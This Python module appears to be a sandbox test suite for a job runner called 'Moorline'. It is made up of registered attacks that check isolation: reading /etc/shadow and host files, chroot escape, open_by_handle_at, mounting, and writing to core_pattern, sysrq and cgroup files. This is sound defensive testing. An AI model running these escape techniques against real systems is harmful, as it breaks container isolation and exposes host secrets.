"""Attacks on files outside the mounts, and on mounts that are to be read only."""

import ctypes
import os
import stat
import tempfile

from attack import LIBC, Failed, attack, main, syscall

MS_BIND, MS_REC = 4096, 16384
AT_FDCWD = -100
SYS_OPEN_BY_HANDLE_AT, SYS_FSOPEN, SYS_OPEN_TREE = 304, 430, 428
LINK = "attack-link"


def expect_flag(path, given):
    """Reads a file and finds the flag in it."""
    with open(path, encoding="utf-8", errors="replace") as file:
        if given["flag"] not in file.read():
            raise Failed(f"{path} has no flag")
    return f"read {path}"


def scratch():
    """A new directory where the job may write."""
    return tempfile.mkdtemp(prefix="attack-", dir=os.environ.get("TMPDIR", "/tmp"))


@attack("read-a-file-of-the-host")
def read_host_file(given):
    return expect_flag(given["file"], given)


@attack("write-a-file-of-the-host")
def write_host_file(given):
    path = os.path.join(given["directory"], "written")
    with open(path, "x", encoding="utf-8") as file:
        file.write("was here")
    os.unlink(path)
    return path


@attack("append-to-a-file-of-the-host")
def append_host_file(given):
    with open(given["file"], "a", encoding="utf-8") as file:
        file.write("")
    return given["file"]


@attack("list-a-directory-of-the-host")
def list_host_directory(given):
    return os.listdir(given["directory"])


@attack("read-etc-shadow")
def read_etc_shadow(given):
    with open("/etc/shadow", encoding="utf-8") as file:
        return len(file.read())


@attack("list-the-home-of-root")
def list_home(given):
    return len(os.listdir("/root"))


@attack("read-the-state-directory")
def read_state(given):
    return len(os.listdir(given["state"]))


@attack("read-the-store")
def read_store(given):
    with open(os.path.join(given["state"], "store.db"), "rb") as file:
        return file.read(16)


@attack("read-another-attempt")
def read_other_attempt(given):
    return expect_flag(given["other_attempt"], given)


@attack("climb-out-by-dot-dot")
def dot_dot(given):
    for start in (os.environ["MOORLINE_JOB_DIR"], os.environ["MOORLINE_OUTPUT_DIR"], "/proc/self/cwd"):
        path = start + "/.." * 40 + given["file"]
        if os.path.exists(path):
            return expect_flag(path, given)
    raise Failed("nowhere")


@attack("the-root-of-a-process")
def root_of_process(given):
    return expect_flag(f"/proc/{given['root_of']}/root" + given["file"], given)


@attack("the-root-of-any-process")
def root_of_any(given):
    tried = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in ("root", "cwd"):
            tried += 1
            try:
                return expect_flag(f"/proc/{pid}/{link}" + "/.." * 40 + given["file"], given)
            except (OSError, Failed):
                continue
    raise Failed(f"{tried} ways tried")


@attack("through-a-symbolic-link")
def symbolic_link(given):
    path = os.path.join(os.environ["MOORLINE_OUTPUT_DIR"], LINK)
    os.symlink(given["file"], path)
    try:
        return expect_flag(path, given)
    finally:
        os.unlink(path)


@attack("through-a-hard-link")
def hard_link(given):
    path = os.path.join(os.environ["MOORLINE_OUTPUT_DIR"], LINK)
    os.link(given["file"], path)
    try:
        return expect_flag(path, given)
    finally:
        os.unlink(path)


@attack("hard-link-an-input-into-the-outputs")
def hard_link_input(given):
    path = os.path.join(os.environ["MOORLINE_OUTPUT_DIR"], LINK)
    os.link(os.environ["MOORLINE_INPUT"], path)
    os.unlink(path)
    return path


@attack("open-by-handle")
def open_by_handle(given):
    kind, handle = given["handle"]
    raw = bytes.fromhex(handle)

    class FileHandle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_char * len(raw))]

    wanted = FileHandle(len(raw), kind, raw)
    mount = os.open(os.environ["MOORLINE_OUTPUT_DIR"], os.O_RDONLY)
    opened = syscall(SYS_OPEN_BY_HANDLE_AT, mount, ctypes.byref(wanted), os.O_RDONLY)
    return expect_flag(f"/proc/self/fd/{opened}", given)


def mount(source, target, kind, flags):
    if LIBC.mount(source, target.encode(), kind, ctypes.c_ulong(flags), None) != 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    LIBC.umount2(target.encode(), 2)
    return target


@attack("mount-a-file-system")
def mount_tmpfs(given):
    return mount(b"none", scratch(), b"tmpfs", 0)


@attack("mount-a-proc")
def mount_proc(given):
    return mount(b"proc", scratch(), b"proc", 0)


@attack("mount-by-the-new-interface")
def fsopen(given):
    os.close(syscall(SYS_FSOPEN, ctypes.c_char_p(b"tmpfs"), 0))
    return "fsopen"


@attack("clone-a-tree-of-mounts")
def open_tree(given):
    os.close(syscall(SYS_OPEN_TREE, AT_FDCWD, ctypes.c_char_p(b"/usr"), 1))
    return "open_tree"


@attack("escape-from-a-chroot")
def chroot(given):
    inner = scratch()
    outside = os.open("/", os.O_RDONLY)
    os.chroot(inner)
    os.fchdir(outside)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return expect_flag(given["file"], given)


@attack("make-a-device")
def make_device(given):
    path = os.path.join(scratch(), "null")
    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    with open(path, "wb") as device:
        device.write(b"x")
    return path


@attack("find-a-disk")
def find_disk(given):
    for directory, _, names in os.walk("/dev"):
        for name in names:
            path = os.path.join(directory, name)
            if stat.S_ISBLK(os.lstat(path).st_mode):
                return path
    raise Failed("no block device")


@attack("read-the-kernel-log")
def kernel_log(given):
    os.close(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK))
    return "/dev/kmsg"


@attack("change-a-device-of-the-host")
def change_device(given):
    mode = stat.S_IMODE(os.stat("/dev/null").st_mode)
    os.chmod("/dev/null", mode)
    return oct(mode)


@attack("set-the-times-of-a-device-of-the-host")
def touch_device(given):
    now = os.stat("/dev/null")
    os.utime("/dev/null", ns=(now.st_atime_ns, now.st_mtime_ns))
    return "/dev/null"


def open_for_writing(*paths):
    """Opens the first that can be opened, and writes nothing."""
    errors = []
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY))
            return path
        except OSError as error:
            errors.append(str(error))
    raise Failed("; ".join(errors))


@attack("write-to-sys")
def write_sys(given):
    return open_for_writing("/sys/kernel/uevent_helper", "/sys/kernel/profiling",
                            "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state")


@attack("read-sys")
def read_sys(given):
    return len(os.listdir("/sys/kernel"))


@attack("write-to-proc-sys")
def write_proc_sys(given):
    return open_for_writing("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
                            "/proc/sys/kernel/hostname", "/proc/sys/vm/overcommit_memory")


@attack("trigger-a-sysrq")
def sysrq(given):
    return open_for_writing("/proc/sysrq-trigger")


@attack("write-to-a-control-group")
def write_cgroup(given):
    for directory, _, names in os.walk("/sys/fs/cgroup"):
        if "cgroup.procs" in names:
            return open_for_writing(os.path.join(directory, "cgroup.procs"))
    raise Failed("no control groups")


@attack("add-a-file-to-the-job")
def add_to_job(given):
    path = os.path.join(os.environ["MOORLINE_JOB_DIR"], "added")
    with open(path, "x", encoding="utf-8"):
        pass
    os.unlink(path)
    return path


@attack("change-a-file-of-the-job")
def change_job(given):
    path = os.path.join(os.environ["MOORLINE_JOB_DIR"], "victim.txt")
    os.chmod(path, 0o644)
    with open(path, "a", encoding="utf-8") as file:
        file.write("changed\n")
    return path


@attack("remove-a-file-of-the-job")
def remove_from_job(given):
    path = os.path.join(os.environ["MOORLINE_JOB_DIR"], "victim.txt")
    os.unlink(path)
    return path


@attack("change-an-input")
def change_input(given):
    path = os.path.join(os.path.dirname(os.environ["MOORLINE_INPUT"]), "in", "data", "data.txt")
    if not os.path.exists(path):
        path = "/in/data/data.txt"
    with open(path, "a", encoding="utf-8") as file:
        file.write("changed\n")
    return path


@attack("change-the-input-document")
def change_input_document(given):
    with open(os.environ["MOORLINE_INPUT"], "a", encoding="utf-8") as file:
        file.write(" ")
    return os.environ["MOORLINE_INPUT"]


@attack("change-the-system")
def change_system(given):
    found = os.stat("/usr/bin/env")
    os.utime("/usr/bin/env", ns=(found.st_atime_ns, found.st_mtime_ns))
    return "/usr/bin/env"


@attack("write-to-etc")
def write_etc(given):
    path = "/etc/moorline-attack"
    with open(path, "x", encoding="utf-8"):
        pass
    os.unlink(path)
    return path


@attack("write-to-the-root")
def write_root(given):
    path = "/moorline-attack"
    with open(path, "x", encoding="utf-8"):
        pass
    os.unlink(path)
    return path


if __name__ == "__main__":
    main()
